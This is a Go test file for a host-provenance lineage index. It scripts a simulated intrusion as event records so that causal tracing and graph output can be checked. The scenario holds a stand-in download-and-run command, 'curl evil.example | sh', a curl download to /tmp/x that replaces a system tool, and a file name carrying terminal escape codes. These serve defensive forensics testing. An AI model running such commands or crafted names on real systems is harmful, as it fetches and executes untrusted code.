package index

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/provostd/provost/chain"
	"github.com/provostd/provost/chain/keys"
	"github.com/provostd/provost/chain/lineage"
	"github.com/provostd/provost/chain/record"
)

var update = flag.Bool("update", false, "write golden files anew")

// fixedLedger is a ledger whose clock advances by a second at each look, so
// that what is written of it is always the same.
func fixedLedger(t testing.TB) *ledger {
	t.Helper()
	dir := t.TempDir()
	k, err := keys.Create(filepath.Join(dir, "keys"))
	if err != nil {
		t.Fatal(err)
	}
	s, err := chain.Create(chain.Config{Dir: filepath.Join(dir, "store"), Anchor: filepath.Join(dir, "anchor"), HostID: host, Keys: k,
		Now:             func() time.Time { return time.Unix(1_795_000_000, 0) },
		CheckpointEvery: time.Hour, HostEvery: time.Hour, WitnessEvery: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	return &ledger{Store: s, t: t, dir: dir, seq: map[uint64]uint64{}}
}

// proc is a process of a scenario.
func proc(pid, ppid uint32, exe string, args ...string) *record.Process {
	p := &record.Process{Pid: pid, Start: uint64(pid) * 10, Ppid: ppid, ParentStart: uint64(ppid) * 10, Executable: []byte(exe),
		Credentials: &record.Credentials{Uid: 0}}
	for _, a := range args {
		p.Args = append(p.Args, []byte(a))
	}
	return p
}

func does(c record.Class, p *record.Process, path string) event {
	return event{c, &record.Event{Process: p, File: &record.File{Path: []byte(path)}}}
}

func renames(p *record.Process, from, to string) event {
	e := does(record.ClassFileRename, p, from)
	e.Target = &record.File{Path: []byte(to)}
	return e
}

func forks(child, parent *record.Process) event {
	return event{record.ClassProcessFork, &record.Event{Process: child, Parent: &record.Process{Pid: parent.Pid, Start: parent.Start, Executable: parent.Executable}}}
}

func execs(p *record.Process) event {
	return event{record.ClassProcessExec, &record.Event{Process: p}}
}

func connects(p *record.Process, ip, name string) event {
	a := netip.MustParseAddr(ip).As4()
	return event{record.ClassNetworkConnect, &record.Event{Process: p, Network: &record.Network{Family: 4, Protocol: "tcp", Direction: "egress",
		SourceIp: []byte{10, 0, 0, 5}, SourcePort: 40000, DestinationIp: a[:], DestinationPort: 443, Name: []byte(name)}}}
}

func accepts(p *record.Process, ip string) event {
	a := netip.MustParseAddr(ip).As4()
	return event{record.ClassNetworkAccept, &record.Event{Process: p, Network: &record.Network{Family: 4, Protocol: "tcp", Direction: "ingress",
		SourceIp: a[:], SourcePort: 50123, DestinationIp: []byte{10, 0, 0, 5}, DestinationPort: 22}}}
}

const (
	tool    = "/usr/local/bin/tool"
	dropped = "/tmp/x"
	hostile = "/tmp/\x1b[31mred\"\\N\xff"
)

// intrusion is a story: somebody comes in by ssh, downloads a program and runs
// it; it replaces a tool, which somebody else runs later.
func intrusion() []event {
	sshd, shForked := proc(700, 1, "/usr/sbin/sshd"), proc(800, 700, "/usr/sbin/sshd")
	sh := proc(800, 700, "/bin/sh", "sh", "-c", "curl evil.example | sh")
	curlForked, curl := proc(801, 800, "/bin/sh"), proc(801, 800, "/usr/bin/curl", "curl", "-o", dropped, "evil.example")
	xForked, x := proc(802, 800, "/bin/sh"), proc(802, 800, dropped, dropped)
	child := proc(803, 802, dropped)
	gdb, vim, victim := proc(990, 1, "/usr/bin/gdb"), proc(901, 1, "/usr/bin/vim", "vim"), proc(950, 1, tool, "tool")
	return []event{
		accepts(sshd, "198.51.100.9"),
		forks(shForked, sshd), execs(sh),
		forks(curlForked, sh), execs(curl),
		connects(curl, "203.0.113.5", "evil.example"),
		does(record.ClassFileCreate, curl, dropped), does(record.ClassFileModify, curl, dropped), does(record.ClassFileClose, curl, dropped),
		does(record.ClassFileModify, vim, "/etc/hosts"), connects(vim, "192.0.2.200", ""),
		forks(xForked, sh), execs(x),
		does(record.ClassMemoryMap, x, "/lib/libc.so"),
		{record.ClassProcessTrace, &record.Event{Process: gdb, Object: &record.Process{Pid: 802, Start: 8020}}},
		does(record.ClassFileCreate, x, tool+".new"), does(record.ClassFileModify, x, tool+".new"), renames(x, tool+".new", tool),
		connects(x, "203.0.113.77", "later.example"), // behind the rename: it has no part in the tool
		does(record.ClassFileCreate, x, hostile),
		forks(child, x),
		does(record.ClassFileModify, child, dropped), // a circle: the program changes its own file
		execs(victim), connects(victim, "203.0.113.99", ""), does(record.ClassFileModify, victim, "/home/u/secret"),
	}
}

func (l *ledger) tell(story []event) (*Index, *chain.Log) {
	vm := l.vm(1)
	l.enroll(vm, 1, [16]byte{0xb0, 0x07})
	l.guest(vm, 1, story...)
	x, _ := l.start(filepath.Join(l.dir, "index"))
	return x, vm
}

func labels(g *lineage.Graph) string {
	var all []string
	for _, n := range g.Nodes {
		all = append(all, n.Label())
	}
	return strings.Join(all, "\n")
}

// golden compares what was written with a file.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", "lineage", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (-update writes it anew):\n%s", file, got)
	}
}

// TestLineageGolden writes the story in every form.
func TestLineageGolden(t *testing.T) {
	l := fixedLedger(t)
	x, vm := l.tell(intrusion())
	domain := vm.Name().Domain
	for name, q := range map[string]LineageQuery{
		"tool-back":       {Path: []byte(tool), Back: true},
		"address-forward": {Address: netip.MustParsePrefix("203.0.113.5/32"), Port: 443, Forward: true},
		"process-both":    {Process: Process{Pid: 802}, Back: true, Forward: true},
	} {
		t.Run(name, func(t *testing.T) {
			q.Domain = domain
			g, err := x.Lineage(t.Context(), q)
			if err != nil {
				t.Fatal(err)
			}
			// The host's monotone clock is of the machine; everything else is fixed.
			for _, w := range []struct {
				form  string
				write func(*lineage.Graph, *bytes.Buffer) error
			}{
				{"txt", func(g *lineage.Graph, b *bytes.Buffer) error { return g.WriteText(b) }},
				{"dot", func(g *lineage.Graph, b *bytes.Buffer) error { return g.WriteDOT(b) }},
				{"prov.json", func(g *lineage.Graph, b *bytes.Buffer) error { return g.WritePROV(b) }},
				{"json", func(g *lineage.Graph, b *bytes.Buffer) error {
					enc := json.NewEncoder(b)
					enc.SetIndent("", "  ")
					return enc.Encode(g)
				}},
			} {
				var b bytes.Buffer
				if err := w.write(g, &b); err != nil {
					t.Fatal(err)
				}
				golden(t, name+"."+w.form, b.Bytes())
			}
			through(t, g)
		})
	}
}

// through holds that a graph survives its way to a client.
func through(t *testing.T, g *lineage.Graph) {
	t.Helper()
	b, err := json.Marshal(g)
	if err != nil {
		t.Fatal(err)
	}
	var again lineage.Graph
	if err := json.Unmarshal(b, &again); err != nil {
		t.Fatal(err)
	}
	var one, two bytes.Buffer
	if err := errors.Join(g.WriteText(&one), again.WriteText(&two)); err != nil || one.String() != two.String() {
		t.Errorf("a graph that went through JSON reads otherwise: %v\n%s\n%s", err, one.String(), two.String())
	}
}

// TestLineageBack holds what belongs to the causes of a file and what does not.
func TestLineageBack(t *testing.T) {
	l := fixedLedger(t)
	x, vm := l.tell(intrusion())
	g, err := x.Lineage(t.Context(), LineageQuery{Domain: vm.Name().Domain, Path: []byte(tool), Back: true})
	if err != nil {
		t.Fatal(err)
	}
	got := labels(g)
	for _, want := range []string{tool + ".new", dropped + "(802)", "/bin/sh(800) [sh -c \"curl evil.example | sh\"]", "/usr/sbin/sshd(700)",
		"198.51.100.9", "/usr/bin/curl(801)", "203.0.113.5:443 (evil.example)", "/lib/libc.so", "/usr/bin/gdb(990)"} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is missing", want)
		}
	}
	for _, not := range []string{"203.0.113.77", "192.0.2.200", "/usr/bin/vim", "(803)", "(950)", "/home/u"} {
		if strings.Contains(got, not) {
			t.Errorf("%s has no part in it", not)
		}
	}
	if t.Failed() {
		t.Log("\n" + got)
	}
	// What a tool had not taken in yet cannot be a cause: no edge is newer than
	// the rename.
	if len(g.Edges) == 0 || g.Back != true || g.Forward {
		t.Errorf("%d edges", len(g.Edges))
	}
}

// TestLineageBounds holds depth, nodes, events and time, each told where it cuts.
func TestLineageBounds(t *testing.T) {
	l := fixedLedger(t)
	x, vm := l.tell(intrusion())
	base := LineageQuery{Domain: vm.Name().Domain, Path: []byte(tool), Back: true}
	cuts := func(q LineageQuery) (all []string, n int) {
		g, err := x.Lineage(t.Context(), q)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range g.Nodes {
			all = append(all, v.Cut...)
		}
		return all, len(g.Nodes)
	}
	whole, n := cuts(base)
	if slices.Contains(whole, lineage.CutNodes) || slices.Contains(whole, lineage.CutEvents) {
		t.Errorf("the whole is cut: %v", whole)
	}
	q := base
	q.Depth = 1
	if got, m := cuts(q); !slices.Contains(got, lineage.CutDepth) || m >= n {
		t.Errorf("depth 1: %v, %d of %d nodes", got, m, n)
	}
	q = base
	q.Nodes = 3
	if got, m := cuts(q); !slices.Contains(got, lineage.CutNodes) || m != 3 {
		t.Errorf("3 nodes: %v, %d nodes", got, m)
	}
	q = LineageQuery{Domain: base.Domain, Path: []byte(dropped), Back: true, Events: 1}
	if got, _ := cuts(q); !slices.Contains(got, lineage.CutEvents) {
		t.Errorf("1 event: %v", got)
	}
	q = base
	q.Until = time.Unix(1_794_999_999, 0).UnixNano()
	var nothing *NothingError
	if _, err := x.Lineage(t.Context(), q); !errors.As(err, &nothing) {
		t.Errorf("before the beginning: %v", err)
	}
	for _, wrong := range []LineageQuery{{Path: []byte("/x")}, {Domain: base.Domain, Path: []byte("/x"), Nodes: MaxNodes + 1}, {Domain: base.Domain, Path: []byte("/x"), Depth: -1}} {
		if _, err := x.Lineage(t.Context(), wrong); !errors.Is(err, record.ErrReject) {
			t.Errorf("%+v: %v", wrong, err)
		}
	}
}

// TestLineageInNoise holds that what is common does not use up what may be read:
// neither thousands of runs of a program nor thousands of writes hide a cause.
func TestLineageInNoise(t *testing.T) {
	l := fixedLedger(t)
	writer, shell := proc(5, 1, "/usr/bin/installer"), "/bin/sh"
	story := []event{forks(writer, proc(4, 1, "/usr/bin/ssh")), connects(writer, "203.0.113.5", ""), does(record.ClassFileCreate, writer, shell)}
	for i := range uint32(1500) {
		story = append(story, does(record.ClassFileModify, writer, fmt.Sprint("/out/", i%7)), execs(proc(100+i, 1, shell)))
	}
	digest := does(record.ClassFileDigest, writer, shell)
	digest.File.Sha256 = bytes.Repeat([]byte{0xab}, 32)
	x, vm := l.tell(append(story, digest, does(record.ClassFileModify, writer, "/out/last")))
	for path, want := range map[string]string{shell: "sha256 abab", "/out/last": "203.0.113.5:443"} {
		g, err := x.Lineage(t.Context(), LineageQuery{Domain: vm.Name().Domain, Path: []byte(path), Back: true, Events: 20})
		if err != nil {
			t.Fatal(err)
		}
		if got := labels(g); !strings.Contains(got, "/usr/bin/installer(5)") || !strings.Contains(got, "203.0.113.5:443") || !strings.Contains(got, "(4)") || !strings.Contains(got, want) {
			t.Errorf("%s: a cause is missing:\n%s", path, got)
		}
	}
}

// TestLineageDomains keeps what two domains do apart.
func TestLineageDomains(t *testing.T) {
	l := fixedLedger(t)
	x, _ := l.tell(intrusion())
	two := l.vm(2)
	l.guest(two, 2, does(record.ClassFileModify, proc(5, 1, "/usr/bin/other"), tool))
	l.wait(x)
	g, err := x.Lineage(t.Context(), LineageQuery{Domain: two.Name().Domain, Path: []byte(tool), Back: true, Forward: true})
	if err != nil {
		t.Fatal(err)
	}
	if got := labels(g); strings.Contains(got, "802") || !strings.Contains(got, "/usr/bin/other(5)") {
		t.Errorf("another domain's lineage:\n%s", got)
	}
}

// TestGraphviz has Graphviz itself read what is written, with hostile names.
func TestGraphviz(t *testing.T) {
	dot, err := exec.LookPath("dot")
	if err != nil {
		t.Fatalf("graphviz is missing, run make setup: %v", err)
	}
	l := fixedLedger(t)
	x, vm := l.tell(intrusion())
	g, err := x.Lineage(t.Context(), LineageQuery{Domain: vm.Name().Domain, Process: Process{Pid: 802}, Back: true, Forward: true})
	if err != nil {
		t.Fatal(err)
	}
	var in, errs bytes.Buffer
	if err := g.WriteDOT(&in); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), dot, "-Tsvg")
	cmd.Stdin, cmd.Stderr = &in, &errs
	svg, err := cmd.Output()
	if err != nil || errs.Len() > 0 {
		t.Fatalf("dot: %v\n%s", err, errs.String())
	}
	if n := strings.Count(string(svg), `class="node"`); n != len(g.Nodes) {
		t.Errorf("%d nodes drawn of %d", n, len(g.Nodes))
	}
	if !strings.Contains(string(svg), `\x1b[31mred`) {
		t.Error("a hostile name is not drawn as it is quoted")
	}
}
